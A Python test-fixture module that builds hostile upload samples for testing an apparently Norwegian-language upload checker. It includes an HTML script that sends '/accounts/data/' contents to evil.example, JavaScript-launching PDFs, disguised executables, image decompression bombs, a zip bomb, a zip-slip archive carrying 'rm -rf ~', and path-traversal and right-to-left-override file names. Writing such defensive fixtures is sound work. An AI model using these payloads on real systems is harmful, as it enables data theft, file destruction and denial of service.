"""Hostile uploads, made by code (nothing is fetched, nothing is checked in).

Each builder returns the bytes of one kind of bad file; `CORPUS` names every
sample with the file name an attacker would give it. The big ones (bombs, floods)
are small on the wire and only claim, or unpack to, something huge; they are
cached, so a test module builds each once.
"""

import functools
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image

# PDFs ---------------------------------------------------------------------------

PDF_PAGE = (
    b"1 0 obj << /Type /Catalog /Pages 2 0 R%(catalog)s >> endobj\n"
    b"2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
    b"3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj\n"
)


def pdf(*, catalog: bytes = b"", objects: bytes = b"") -> bytes:
    """A one-page PDF; `catalog` goes into the document catalogue."""
    body = PDF_PAGE.replace(b"%(catalog)s", catalog)
    return b"%PDF-1.4\n" + body + objects + b"trailer << /Root 1 0 R >>\n%%EOF\n"


def pdf_with_javascript() -> bytes:
    """Runs a script when opened (/OpenAction → /JavaScript /JS)."""
    return pdf(
        catalog=b" /OpenAction 4 0 R",
        objects=b"4 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\n",
    )


def pdf_with_escaped_javascript() -> bytes:
    """The same, with the names spelt in #xx escapes a byte scan would miss."""
    return pdf(
        catalog=b" /OpenAction 4 0 R",
        objects=b"4 0 obj << /S /J#61vaScript /J#53 (app.alert(1)) >> endobj\n",
    )


# Programs and markup -------------------------------------------------------------


def windows_program() -> bytes:
    """The start of a Windows PE file (what a .exe begins with)."""
    stub = b"MZ\x90\x00\x03" + b"\x00" * 59
    return stub + b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 512


def linux_program() -> bytes:
    """The start of a 64-bit ELF executable."""
    return (
        b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 512
    )


def html_with_script() -> bytes:
    return (
        b"<!DOCTYPE html><html><head><title>CV</title></head><body>"
        b"<script>fetch('/accounts/data/').then(r => r.text())"
        b".then(t => new Image().src = 'https://evil.example/?' + t)</script>"
        b"</body></html>"
    )


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" '
        b'onload="alert(document.domain)"><script>alert(1)</script>'
        b'<rect width="10" height="10"/></svg>'
    )


# Images ---------------------------------------------------------------------------


def png_chunk(kind: bytes, payload: bytes) -> bytes:
    crc = zlib.crc32(kind + payload) & 0xFFFFFFFF
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", crc)


def png_declaring(width: int, height: int, *, bit_depth: int = 8, rows=None) -> bytes:
    """A greyscale PNG whose header says `width`×`height`. Its data holds `rows`
    rows of zeros (all rows when None): the file stays small either way."""
    row_bytes = 1 + (width * bit_depth + 7) // 8  # filter byte + pixels
    compressor = zlib.compressobj(9)
    pieces = []
    zero_row = b"\x00" * row_bytes
    for _row in range(height if rows is None else rows):
        pieces.append(compressor.compress(zero_row))
    pieces.append(compressor.flush())
    header = struct.pack(">IIBBBBB", width, height, bit_depth, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", b"".join(pieces))
        + png_chunk(b"IEND", b"")
    )


@functools.cache
def decompression_bomb_png() -> bytes:
    """30000×30000 pixels declared (900 megapixels, ~2.7 GB decoded as RGB)."""
    return png_declaring(30_000, 30_000, rows=16)


@functools.cache
def pixel_flood_png() -> bytes:
    """A complete, valid 10000×10000 black-and-white PNG: 100 megapixels in ~15 KB.
    Under Pillow's own bomb error (179 MP), over every limit of ours."""
    return png_declaring(10_000, 10_000, bit_depth=1)


@functools.cache
def pixel_flood_jpeg() -> bytes:
    """A tiny JPEG whose frame header claims 65000×65000 pixels."""
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(buffer, "JPEG")
    data = bytearray(buffer.getvalue())
    sof = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, 65_000, 65_000)
    return bytes(data)


def small_png() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, "PNG")
    return buffer.getvalue()


# Office documents (ZIP files) -------------------------------------------------------

DOCX_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/'
    b"vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    b'"/></Types>'
)
DOCX_DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.'
    b'openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>'
    b"Opplaeringsplan</w:t></w:r></w:p></w:body></w:document>"
)
ZIP_BOMB_MEMBER_BYTES = 64 * 1024 * 1024


def docx(*extra) -> bytes:
    """A minimal Word document; `extra` = (name, bytes) members added to it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", DOCX_TYPES)
        archive.writestr("word/document.xml", DOCX_DOCUMENT)
        for name, data in extra:
            archive.writestr(name, data)
    return buffer.getvalue()


@functools.cache
def zip_bomb_docx() -> bytes:
    """A Word document with a member that inflates to 64 MB (~65 KB packed),
    written in chunks so building it does not hold 64 MB either."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", DOCX_TYPES)
        archive.writestr("word/document.xml", DOCX_DOCUMENT)
        info = zipfile.ZipInfo("word/media/image1.bin")
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=True) as member:
            chunk = b"\x00" * (1024 * 1024)
            for _chunk in range(ZIP_BOMB_MEMBER_BYTES // len(chunk)):
                member.write(chunk)
    return buffer.getvalue()


def zip_slip_docx() -> bytes:
    """A Word document with members that would land outside the folder."""
    return docx(
        ("../../../../tmp/evil.sh", b"#!/bin/sh\nrm -rf ~\n"),
        ("word/../../escape.xml", b"<x/>"),
    )


def plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("notes.txt", b"hello")
    return buffer.getvalue()


# The corpus -------------------------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    key: str
    name: str  # the file name the uploader gives it
    build: object  # () -> bytes

    @property
    def content(self) -> bytes:
        return self.build()


CORPUS = {
    sample.key: sample
    for sample in (
        Sample("empty", "tom.pdf", lambda: b""),
        Sample("windows_program_as_pdf", "rapport.pdf", windows_program),
        Sample("linux_program_as_pdf", "rapport.pdf", linux_program),
        Sample("html_with_script", "side.html", html_with_script),
        Sample("html_named_pdf", "rapport.pdf", html_with_script),
        Sample("svg_with_script", "logo.svg", svg_with_script),
        Sample("svg_named_png", "logo.png", svg_with_script),
        Sample("pdf_with_javascript", "plan.pdf", pdf_with_javascript),
        Sample("pdf_with_escaped_javascript", "plan.pdf", pdf_with_escaped_javascript),
        Sample("decompression_bomb_png", "bilde.png", decompression_bomb_png),
        Sample("pixel_flood_png", "bilde.png", pixel_flood_png),
        Sample("pixel_flood_jpeg", "bilde.jpg", pixel_flood_jpeg),
        Sample("zip_bomb_docx", "plan.docx", zip_bomb_docx),
        Sample("zip_slip_docx", "plan.docx", zip_slip_docx),
        Sample("plain_zip", "filer.zip", plain_zip),
        Sample("png_named_pdf", "rapport.pdf", small_png),
    )
}

# File names: the content is harmless (a small PNG); the name is the attack.
HOSTILE_NAMES = {
    "climbs_out": "../../../etc/cron.d/evil.png",
    "windows_climbs_out": "..\\..\\windows\\system32\\evil.png",
    "nul": "bilde.png\x00.html",
    "right_to_left_override": "bilde\u202egnp.exe",
    "very_long": "a" * 300 + ".png",
}
